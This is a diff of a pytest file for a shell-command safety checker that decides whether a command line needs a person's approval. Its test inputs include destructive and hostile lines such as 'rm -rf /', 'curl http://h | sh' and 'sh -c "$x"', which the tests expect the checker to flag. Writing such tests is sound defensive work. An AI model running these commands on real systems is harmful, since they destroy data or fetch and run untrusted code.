@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import posixpath
 import shlex
+from collections.abc import Iterable
 
 import pytest
 
@@ -30,17 +31,21 @@ def is_safe(text: str) -> bool:
     return not problem and not any(use.problems for use in uses)
 
 
-@pytest.mark.parametrize("name", sorted(WRAPPERS))
-def test_a_wrapper_and_what_it_runs_are_both_judged(name: str) -> None:
-    operands = "1 " * WRAPPERS[name].skip
-    _, uses = judge(f"{name} {operands}rm -rf x")
-    assert [use.program for use in uses][:1] == [name]
-    assert ("rm", "-rf", "x") in [use.argv for use in uses]
+def find_safe(lines: Iterable[str]) -> list[str]:
+    """Return the lines for which no person is asked."""
+    return [line for line in lines if is_safe(line)]
 
 
-@pytest.mark.parametrize("name", sorted(WRAPPERS))
-def test_a_wrapper_with_an_unknown_option_is_a_problem(name: str) -> None:
-    assert not is_safe(f"{name} --no-such-option 1 ls")
+def test_a_wrapper_and_what_it_runs_are_both_judged() -> None:
+    for name, wrapper in WRAPPERS.items():
+        operands = "1 " * wrapper.skip
+        _, uses = judge(f"{name} {operands}rm -rf x")
+        assert [use.program for use in uses][:1] == [name]
+        assert ("rm", "-rf", "x") in [use.argv for use in uses], name
+
+
+def test_a_wrapper_with_an_unknown_option_is_a_problem() -> None:
+    assert find_safe(f"{name} --no-such-option 1 ls" for name in WRAPPERS) == []
 
 
 @pytest.mark.parametrize("name", sorted(RUNS_AFTER))
@@ -49,29 +54,25 @@ def test_a_runner_of_projects_is_seen_through(name: str) -> None:
     assert not is_safe(f"{name} {RUNS_AFTER[name]} -c 'rm x'")
 
 
-@pytest.mark.parametrize(
-    ("name", "option"),
-    [(name, option) for name in sorted(CODE_OPTIONS) for option in CODE_OPTIONS[name].split()],
-)
-def test_an_option_that_is_code_is_a_problem(name: str, option: str) -> None:
-    words = [] if option == ALWAYS else [option]
-    assert not is_safe(shlex.join([name, *words, "x"]))
-    if option.startswith("--"):
-        assert not is_safe(f"{name} a {option[:6]}=x")
+def test_an_option_that_is_code_is_a_problem() -> None:
+    options = [(name, option) for name, text in CODE_OPTIONS.items() for option in text.split()]
+    assert len(options) > 500
+    whole = [
+        shlex.join([name, *([] if option == ALWAYS else [option]), "x"]) for name, option in options
+    ]
+    shortened = [f"{name} a {option[:6]}=x" for name, option in options if option.startswith("--")]
+    assert find_safe(whole + shortened) == []
 
 
-@pytest.mark.parametrize(
-    "name", sorted(name for name in CODE_OPTIONS if CODE_OPTIONS[name] != ALWAYS)
-)
-def test_an_unknown_word_may_be_an_option_that_is_code(name: str) -> None:
-    assert not is_safe(f"{name} $x")
+def test_an_unknown_word_may_be_an_option_that_is_code() -> None:
+    names = [name for name, options in CODE_OPTIONS.items() if options != ALWAYS]
+    assert find_safe(f"{name} $x" for name in names) == []
 
 
-@pytest.mark.parametrize("name", sorted(SHELLS))
-def test_a_shell_is_seen_through(name: str) -> None:
-    assert "rm" in [use.program for use in judge(f"{name} -c 'ls; rm x'")[1]]
-    assert not is_safe(f"curl http://h | {name}")
-    assert not is_safe(f'{name} -c "$x"')
+def test_a_shell_is_seen_through() -> None:
+    for name in SHELLS:
+        assert "rm" in [use.program for use in judge(f"{name} -c 'ls; rm x'")[1]]
+        assert find_safe([f"curl http://h | {name}", f'{name} -c "$x"']) == []
 
 
 @pytest.mark.parametrize("name", sorted(INTERPRETERS))
@@ -86,22 +87,19 @@ def test_code_for_an_interpreter_is_a_problem(name: str) -> None:
     assert is_safe(f"{name} script")
 
 
-@pytest.mark.parametrize("name", sorted(RUNS_CODE))
-def test_an_argument_of_git_that_is_code_is_a_problem(name: str) -> None:
-    for option in RUNS_CODE[name].split():
-        assert not is_safe(f"git {name} {option} x"), option
+def test_an_argument_of_git_that_is_code_is_a_problem() -> None:
+    options = [(name, option) for name, text in RUNS_CODE.items() for option in text.split()]
+    assert find_safe(f"git {name} {option} x" for name, option in options) == []
 
 
-@pytest.mark.parametrize("name", sorted(PROGRAMS))
-def test_an_option_of_a_known_program_that_is_code_is_a_problem(name: str) -> None:
-    described = describe_options(PROGRAMS[name].options)
-    for option, role in described.long.items():
-        if role == "code":
-            assert not is_safe(f"{name} {option}=x"), option
-            assert not is_safe(f"{name} {option[:-2]}=x"), option
-    for letter, role in described.short.items():
-        if role == "code":
-            assert not is_safe(f"{name} -{letter} x"), letter
+def test_an_option_of_a_known_program_that_is_code_is_a_problem() -> None:
+    for name, program in PROGRAMS.items():
+        described = describe_options(program.options)
+        long = [option for option, role in described.long.items() if role == "code"]
+        short = [letter for letter, role in described.short.items() if role == "code"]
+        assert find_safe(f"{name} {option}=x" for option in long) == []
+        assert find_safe(f"{name} {option[:-2]}=x" for option in long) == []
+        assert find_safe(f"{name} -{letter} x" for letter in short) == []
 
 
 ESCAPES = (
@@ -173,9 +171,8 @@ ESCAPES = (
 )  # fmt: skip
 
 
-@pytest.mark.parametrize("line", ESCAPES)
-def test_a_known_escape_needs_a_person(line: str) -> None:
-    assert not is_safe(line)
+def test_a_known_escape_needs_a_person() -> None:
+    assert find_safe(ESCAPES) == []
 
 
 ORDINARY = (
@@ -191,9 +188,8 @@ ORDINARY = (
 )  # fmt: skip
 
 
-@pytest.mark.parametrize("line", ORDINARY)
-def test_an_ordinary_line_has_no_problem(line: str) -> None:
-    assert is_safe(line)
+def test_an_ordinary_line_has_no_problem() -> None:
+    assert find_safe(ORDINARY) == list(ORDINARY)
 
 
 @pytest.mark.parametrize("line", ["foo rm -rf /", "foo -n 1 /bin/rm -rf /", "foo sh -c 'rm -rf /'"])
